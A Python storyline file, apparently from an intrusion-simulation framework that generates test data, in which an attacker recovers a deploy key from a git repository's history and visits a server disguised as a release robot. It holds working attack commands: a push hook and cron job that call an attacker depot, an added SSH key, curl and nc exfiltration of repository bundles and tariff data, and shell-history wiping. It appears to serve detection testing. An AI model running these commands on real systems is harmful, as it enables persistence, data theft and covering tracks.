"""A deploy key left in a repository's past: a stranger comes as the robot does, briefly and seldom."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from plot import Storyline, Visit
from storylines._walk import a_name, walk

if TYPE_CHECKING:
    from intruder import Intruder

PORT = 3780
KEY = re.compile(r"-----BEGIN OPENSSH[^\n]*\n.*?-----END OPENSSH[^\n]*\n", re.DOTALL)

WEAKEN = r"""
set -e
id -u shipper >/dev/null 2>&1 || useradd -m -d /srv/repos -s /bin/bash -c 'release robot' shipper
install -d -m 755 -o shipper -g shipper /srv/repos /srv/repos/.ssh /srv/repos/live /srv/repos/bin
cat > /opt/repoview.py <<'EOF'
# Shows repositories to colleagues: history, and files of any revision.
import pathlib
import subprocess

import appserver

ROOT = pathlib.Path("/srv/repos")


def git(repo, *words):
    done = subprocess.run(["git", "-C", str(ROOT / pathlib.Path(repo).name), *words], capture_output=True)
    return (404 if done.returncode else 200), done.stdout.decode("utf-8", "replace")


def handle(method, path, query, body, headers):
    pick = lambda name: query.get(name, "")
    if path == "/repos":
        return 200, "\n".join(sorted(p.name for p in ROOT.glob("*.git"))) + "\n"
    if path == "/log":
        return git(pick("repo"), "log", "--format=%h %an %s", "-30", "trunk")
    if path == "/file":
        return git(pick("repo"), "show", (pick("rev") or "trunk") + ":" + pick("name"))
    return 404, "no such page\n"


appserver.serve(3780, handle, "repoview")
EOF
if [ ! -d /srv/repos/fieldnotes.git ]; then
    work=$(mktemp -d); cd "$work"
    git init -q -b trunk fieldnotes; cd fieldnotes
    git config user.name robot; git config user.email robot@corp.example
    mkdir ops sites
    for site in 01 02 03 04 05 06 07 08; do
        { echo "# Site $site"; seq 1 80 | awk -v s=$site '{print "- visit " $1 ": level " (s*$1*37)%911/100 " m"}'; } \
            > sites/site-$site.md
    done
    git add .; git commit -qm 'notes of eight sites'
    ssh-keygen -q -t ed25519 -N '' -C release-robot -f ops/robot
    git add .; git commit -qm 'robot can ship'
    cat ops/robot.pub > /srv/repos/.ssh/authorized_keys
    git rm -q ops/robot; echo 'key: ask the release people' > ops/README
    git add .; git commit -qm 'key does not belong here'
    echo 'port = 3780' > ops/view.conf; git add .; git commit -qm 'settings of the view'
    git clone -q --bare . /srv/repos/fieldnotes.git
    cd ..; git init -q -b trunk tariffs; cd tariffs
    git config user.name robot; git config user.email robot@corp.example
    seq 1 300 | awk '{print "T" $1 ";" ($1*7919)%9973/100}' > tariffs.csv
    git add .; git commit -qm 'tariffs of the year'
    git clone -q --bare . /srv/repos/tariffs.git
    cd /; rm -rf "$work"
fi
cat > /srv/repos/bin/ship <<'EOF'
#!/bin/bash
# puts the newest revision of each repository into its live folder
for repo in /srv/repos/*.git; do
    name=$(basename "$repo" .git)
    mkdir -p "/srv/repos/live/$name"
    git -C "$repo" archive trunk | tar -x -C "/srv/repos/live/$name"
done
EOF
chmod 755 /srv/repos/bin/ship
printf 'mirror=https://mirror.example\nmirror_user=robot\nmirror_pass=Tidal.Flat.9\n' > /srv/repos/.mirror
chown -R shipper:shipper /srv/repos; chmod 700 /srv/repos/.ssh
chmod 600 /srv/repos/.ssh/authorized_keys /srv/repos/.mirror
su shipper -c /srv/repos/bin/ship
echo '*/4 * * * * shipper /srv/repos/bin/ship' > /etc/cron.d/ship
echo '*/9 * * * * shipper git -C /srv/repos/fieldnotes.git gc -q' >> /etc/cron.d/ship
"""

# A line of dashes: the session ends, and some minutes pass until the next.
HOOKED = r"""
== first visits | TA0007 | One or two commands a visit, those of a robot that ships.
T1083 cd fieldnotes.git && git log --oneline -3 trunk
T1033 id -un
----
T1083 ls live/fieldnotes && git -C tariffs.git rev-parse trunk
----
T1057 ps -u shipper -o pid,etime,args
T1082 uname -r; git --version
----
== the robot's settings | TA0006 | The file with the mirror's password.
T1552.001 cat .mirror
T1552.004 ls -l .ssh
----
== a hook | TA0003 | A hook of the repository runs whenever something is pushed.
T1546 printf '#!/bin/sh\nwget -q -T 4 -O /dev/null {depot}/{word}/refs || :\n' > fieldnotes.git/hooks/post-update
T1222.002 chmod 755 fieldnotes.git/hooks/post-update
T1546 @plant /srv/repos/fieldnotes.git/hooks/post-update
----
T1546 git clone -q fieldnotes.git {word} && cd {word} && date > .checked && git add . && git -c user.name=robot\
 -c user.email=robot@corp.example commit -qm 'checked'
T1546 git push -q origin trunk && cd && rm -rf {word}
----
== the past of a repository | TA0009 | All of it in one bundle, cut into small pieces.
T1213.003 git -C fieldnotes.git bundle create -q /srv/repos/live/{word}.pack --all
T1030 split -b 6k -d live/{word}.pack live/{word}. && rm live/{word}.pack
----
== piece by piece | TA0010 | One piece a visit, under a name as a release has it.
T1030 curl -fsS -T live/{word}.00 {depot}/releases/{word}-00 && rm live/{word}.00
----
T1030 curl -fsS -T live/{word}.01 {depot}/releases/{word}-01 && rm live/{word}.01
----
T1083 ls live
T1030 curl -fsS -T live/{word}.02 {depot}/releases/{word}-02; rm -f live/{word}.02
----
T1048.003 git -C tariffs.git show trunk:tariffs.csv | gzip | curl -fsS --data-binary @- {depot}/releases/t
----
== a last visit | TA0005 | What is left of the pieces goes.
T1070.004 rm -f live/{word}.*
T1070.006 touch -r fieldnotes.git/hooks/update.sample fieldnotes.git/hooks/post-update
? T1070.003 rm -f .bash_history
"""

ARCHIVED = r"""
== first visits | TA0007 | Single commands, as a robot gives them.
T1082 hostname -f; uptime
----
T1083 find . -maxdepth 2 -name '*.git' -o -maxdepth 2 -name '*.sh'
----
? T1124 date; ls -l /etc/localtime
T1053.003 cat /etc/cron.d/ship
----
T1083 stat -c '%n %s' live/*/*
T1018 getent ahostsv4 atlas-11 mill-13 quay-12 | sort -u
----
== the robot's settings | TA0006 | A search in the past of the repositories for more secrets.
T1552.001 git -C fieldnotes.git log --all -p -S PRIVATE --format=%h | grep -c PRIVATE
----
T1552.001 git -C tariffs.git grep -inE 'pass|key' trunk; sed -n 3p .mirror
----
== one more key | TA0003 | The key of the intruder, with the name of the robot, behind a real one.
T1098.004 echo 'restrict,pty {public}' >> .ssh/authorized_keys
T1070.006 touch -r .profile .ssh/authorized_keys
----
T1548.003 sudo -n true
T1069.001 id -Gn
----
== sites | TA0009 | A few notes each time, packed by git itself.
T1560.001 git -C fieldnotes.git archive --format=tar.gz -o /tmp/{word}.tgz trunk sites/site-01.md sites/site-02.md
T1132.001 base64 /tmp/{word}.tgz > /tmp/{word}.b && wc -c /tmp/{word}.b
----
== by the terminal | TA0010 | The terminal shows them; nothing but the ssh session itself carries them out.
T1041 head -c 3000 /tmp/{word}.b
----
T1041 tail -c +3001 /tmp/{word}.b; rm /tmp/{word}.b /tmp/{word}.tgz
----
T1041 git -C fieldnotes.git show trunk:sites/site-0{digit}.md | xz | base64 -w 100
----
T1041 git -C fieldnotes.git cat-file blob trunk:sites/site-05.md | tail -30
T1048.003 wget -q -O /dev/null --post-data="$(cksum < live/tariffs/tariffs.csv)" {depot}/v
----
== a last visit | TA0005 | The history of the robot's shell is cut short.
T1070.003 head -5 .bash_history > .bh; mv .bh .bash_history
T1070.004 rm -rf /tmp/{word}*
"""

ROBOT = r"""
== first visits | TA0007 | He types what the release people type.
T1083 ls
T1654 tail -n 4 .bash_history
----
T1083 cat bin/ship
T1083 ls -l live/*
----
? T1033 who -a | tail -3
T1680 df -h . | tail -1
T1083 git -C fieldnotes.git branch -a
----
T1007 service cron status; crontab -l
----
== the robot's settings | TA0006 | Settings that lie about.
T1552.001 more .mirror
----
== a job | TA0003 | A little script of the robot's, to be run by cron now and then.
T1105 curl -fsSo bin/{file} {depot}/{file} && chmod +x bin/{file}
T1053.003 @plant /srv/repos/bin/{file}
----
T1083 bin/{file} --help; ls -l bin
T1053.003 (crontab -l 2>/dev/null; echo '*/3 * * * * $HOME/bin/{file} >/dev/null 2>&1') | crontab -
----
T1053.003 crontab -l
----
== tariffs | TA0009 | The tariffs of the year, a hundred lines at a time.
T1005 wc -l live/tariffs/tariffs.csv
T1074.001 sed -n '1,100p' live/tariffs/tariffs.csv > live/.{word}
----
== out | TA0010 | Each part leaves with a plain curl or through nc.
T1030 curl -sS -F part=@live/.{word} {depot}/report
----
T1074.001 sed -n '101,200p' live/tariffs/tariffs.csv > live/.{word}
T1030 curl -sS -F part=@live/.{word} {depot}/report
----
T1030 (printf 'POST /r HTTP/1.0\r\nContent-Length: 1000\r\n\r\n'; tail -n 100 live/tariffs/tariffs.csv | head -c\
 1000) | nc -q 2 {host} {port} | tail -1
----
== a last visit | TA0005 | The last part and the lines of the history.
T1070.004 rm -f live/.{word}
T1070.003 sed -i '/curl/d;/nc -q/d' .bash_history
T1083 git -C fieldnotes.git status -s 2>&1 | head -2
"""


def find_key(own: Intruder, gap: float) -> str:
    """Read the repository's past in the browser until it shows the robot's key."""
    own.step("an old revision", "TA0006", "The view of the repositories shows a key that was removed a little later.")

    def read(path: str, technique: str = "T1213.003") -> str:
        shown = own.http(own.entry, PORT, "GET", path, technique=technique)
        own.think(gap / 5)
        return shown

    read("/repos")
    past = read("/log?repo=fieldnotes.git")
    if own.variant == 0:
        read("/log?repo=tariffs.git")
    read("/file?repo=fieldnotes.git&name=ops/README")
    if own.variant == 1:
        read("/file?repo=fieldnotes.git&name=ops/robot", "T1552.004")
    revision = next(line.split()[0] for line in past.splitlines() if line.endswith("robot can ship"))
    found = KEY.search(read(f"/file?repo=fieldnotes.git&rev={revision}&name=ops/robot", "T1552.004"))
    assert found, past
    return found.group(0)


def play(own: Intruder) -> None:
    gap = (22.0, 60.0, 130.0)[own.variant]
    key = find_key(own, gap)
    file = own.pick(("prune-live", "sync-live", "tidy-live"))
    own.offer(
        file, f'#!/bin/bash\n[ -n "$1" ] && echo "usage: $0" && exit\ncurl -fs -m 5 "{own.depot}/live?t=$(date +%s)"\n'
    )
    host, _, port = own.depot.removeprefix("http://").partition(":")
    names = {"word": a_name(own), "file": file, "depot": own.depot, "host": host, "port": port or "80"}
    names["public"] = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{'Um9ib3RFeGFtcGxl' * 3}Abc release-robot"
    names["digit"] = str(own.rng.randint(3, 8))
    visits = (HOOKED, ARCHIVED, ROBOT)[own.variant].split("----\n")
    own.step("a key that still fits", "TA0001", "The removed key still opens the account of the release robot.")
    for visit in visits:
        shell = own.ssh(own.entry, "shipper", key=key, technique="T1078.003")
        walk(own, visit, shell, names, 2.5)
        if own.rng.random() < 0.7:
            shell.at.line("exit", 3)
        shell.close()
        own.think(gap)


STORYLINE = Storyline(
    name="slow-drip",
    split="test",
    words="The key of a release robot stands in an old revision of a repository that colleagues may browse. The "
    "intruder comes as the robot, gives one or two commands every few minutes, leaves a hook, a key or a cron job and "
    "carries notes and tariffs away in small pieces.",
    weaken=WEAKEN,
    services=("shipper: /usr/bin/python3 /opt/repoview.py",),
    visits=(
        Visit(PORT, 50, path="/{pick:repos|repos|log?repo=fieldnotes.git|log?repo=tariffs.git}"),
        Visit(PORT, 70, path="/file?repo=fieldnotes.git&name=sites/site-0{pick:1|2|4|7|9}.md"),
    ),
    play=play,
    hosts=("atlas-11", "mill-13"),
    minutes=28,
)
